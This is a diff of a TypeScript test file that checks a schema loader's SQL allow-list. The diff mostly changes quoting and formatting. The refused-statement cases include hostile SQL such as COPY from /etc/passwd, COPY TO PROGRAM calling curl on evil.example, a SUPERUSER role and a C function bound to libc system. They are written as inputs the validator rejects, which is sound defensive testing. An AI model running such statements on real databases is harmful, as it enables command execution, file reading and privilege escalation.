@@ -4,7 +4,7 @@ import { ALLOWED_EXTENSIONS } from '../../../src/schema/load/allowed-statements.
 import { checkSchemaFiles } from '../../../src/schema/load/load-desired-schema.js';
 import { rejection, tempSchemaFile } from './temp-schema.js';
 
-const prelude = 'CREATE TABLE t (id int PRIMARY KEY);\nCREATE TYPE e AS ENUM (\'a\');\n';
+const prelude = "CREATE TABLE t (id int PRIMARY KEY);\nCREATE TYPE e AS ENUM ('a');\n";
 
 const refused: [sql: string, what: string, reason: string][] = [
   ['INSERT INTO t VALUES (1);', 'INSERT', 'data changes belong in a data migration'],
@@ -12,23 +12,19 @@ const refused: [sql: string, what: string, reason: string][] = [
   ['DELETE FROM t;', 'DELETE', 'data changes'],
   ["COPY t FROM '/etc/passwd';", 'COPY', 'data changes'],
   ["COPY t TO PROGRAM 'curl evil.example';", 'COPY … PROGRAM', 'runs a command on the database server'],
-  ["DO $$ BEGIN PERFORM pg_sleep(1); END $$;", 'DO', 'runs code and declares nothing'],
+  ['DO $$ BEGIN PERFORM pg_sleep(1); END $$;', 'DO', 'runs code and declares nothing'],
   ["ALTER SYSTEM SET shared_buffers = '1GB';", 'ALTER SYSTEM', 'configuration of the whole server'],
-  ["CREATE ROLE intruder SUPERUSER;", 'CREATE ROLE', 'roles belong to the whole server'],
-  ["CREATE USER intruder;", 'CREATE USER', 'roles belong to the whole server'],
+  ['CREATE ROLE intruder SUPERUSER;', 'CREATE ROLE', 'roles belong to the whole server'],
+  ['CREATE USER intruder;', 'CREATE USER', 'roles belong to the whole server'],
   ['SET ROLE postgres;', 'SET ROLE', 'change the role the statements run as'],
-  ["SET SESSION AUTHORIZATION postgres;", 'SET SESSION AUTHORIZATION', 'change the role'],
+  ['SET SESSION AUTHORIZATION postgres;', 'SET SESSION AUTHORIZATION', 'change the role'],
   ['SET search_path TO other;', 'SET search_path', 'the search_path may name only schema public'],
   ["SET work_mem = '1GB';", 'SET work_mem', 'session settings are not part of a schema'],
   ['SET standard_conforming_strings = off;', 'SET standard_conforming_strings', 'backslashes in strings would mean something else'],
   ["SET default_tablespace = 'fast';", 'SET default_tablespace', 'tablespaces are specific to one server'],
   ["SELECT pg_catalog.set_config('search_path', 'other', false);", 'SELECT', 'other would resolve names outside it'],
   ["SELECT pg_catalog.set_config('work_mem', '1GB', false);", 'SELECT', "only pg_dump's set_config('search_path', …) is accepted"],
-  [
-    "CREATE FUNCTION py() RETURNS int LANGUAGE plpython3u AS 'import os';",
-    'CREATE FUNCTION in LANGUAGE plpython3u',
-    'plpython3u is an untrusted language',
-  ],
+  ["CREATE FUNCTION py() RETURNS int LANGUAGE plpython3u AS 'import os';", 'CREATE FUNCTION in LANGUAGE plpython3u', 'plpython3u is an untrusted language'],
   ["CREATE FUNCTION cf() RETURNS int LANGUAGE c AS 'libc', 'system';", 'CREATE FUNCTION in LANGUAGE c', 'run code inside the server'],
   ['CREATE EXTENSION plperlu;', 'CREATE EXTENSION', "extension plperlu is not on schemafleet's list"],
   ['CREATE EXTENSION pgcrypto SCHEMA other;', 'CREATE EXTENSION', 'would be installed in schema other'],
@@ -60,7 +56,7 @@ const refused: [sql: string, what: string, reason: string][] = [
   ['CALL p();', 'CALL', 'runs code'],
   ['CREATE TEMP TABLE tt (a int);', 'CREATE TABLE', 'temporary objects'],
   ['ALTER TABLE t RENAME TO t3;', 'ALTER … RENAME', 'write the object under its new name'],
-  ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw;", 'CREATE SERVER', 'foreign data wrappers'],
+  ['CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw;', 'CREATE SERVER', 'foreign data wrappers'],
   ['CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f();', 'CREATE EVENT TRIGGER', 'need a superuser'],
   ["COMMENT ON ROLE postgres IS 'x';", 'COMMENT ON ROLE', 'only objects of the schema'],
   ['CREATE TABLE t4 (a int) TABLESPACE pg_default;', 'CREATE TABLE', 'tablespaces are specific to one server'],
@@ -117,7 +113,7 @@ describe('allow-list', () => {
     expect(checked.statements[3]?.action).toBe('apply');
   });
 
-  it("accepts what pg_dump --schema-only writes around the objects: \\restrict lines, session SETs, the search_path, owners", async () => {
+  it('accepts what pg_dump --schema-only writes around the objects: \\restrict lines, session SETs, the search_path, owners', async () => {
     const file = await tempSchemaFile(
       [
         '\\restrict fLzapGuDVQaMGDFzvHGDxz0fYfBKYjKraOl7hpgn9Unc3ssVqFQxfxOpw60uctG',
@@ -134,7 +130,7 @@ describe('allow-list', () => {
         'SET default_table_access_method = heap;',
         'CREATE SCHEMA app AUTHORIZATION someone;',
         'ALTER SCHEMA app OWNER TO someone;',
-        'CREATE TYPE app.mood AS ENUM (\'a\');',
+        "CREATE TYPE app.mood AS ENUM ('a');",
         'ALTER TYPE app.mood OWNER TO someone;',
         'CREATE TABLE app.t (id integer NOT NULL);',
         'ALTER TABLE app.t OWNER TO someone;',
@@ -147,8 +143,25 @@ describe('allow-list', () => {
     const checked = await checkSchemaFiles(file, 'app');
     const actions = checked.statements.map((s) => `${s.location.line}:${s.action}`);
     expect(actions).toEqual([
-      '2:skip', '3:skip', '4:skip', '5:skip', '6:apply', '7:apply', '8:apply', '9:skip', '10:skip', '11:skip', '12:skip',
-      '13:skip', '14:skip', '15:apply', '16:skip', '17:apply', '18:skip', '19:apply', '20:apply-as-admin',
+      '2:skip',
+      '3:skip',
+      '4:skip',
+      '5:skip',
+      '6:apply',
+      '7:apply',
+      '8:apply',
+      '9:skip',
+      '10:skip',
+      '11:skip',
+      '12:skip',
+      '13:skip',
+      '14:skip',
+      '15:apply',
+      '16:skip',
+      '17:apply',
+      '18:skip',
+      '19:apply',
+      '20:apply-as-admin',
     ]);
   });
 
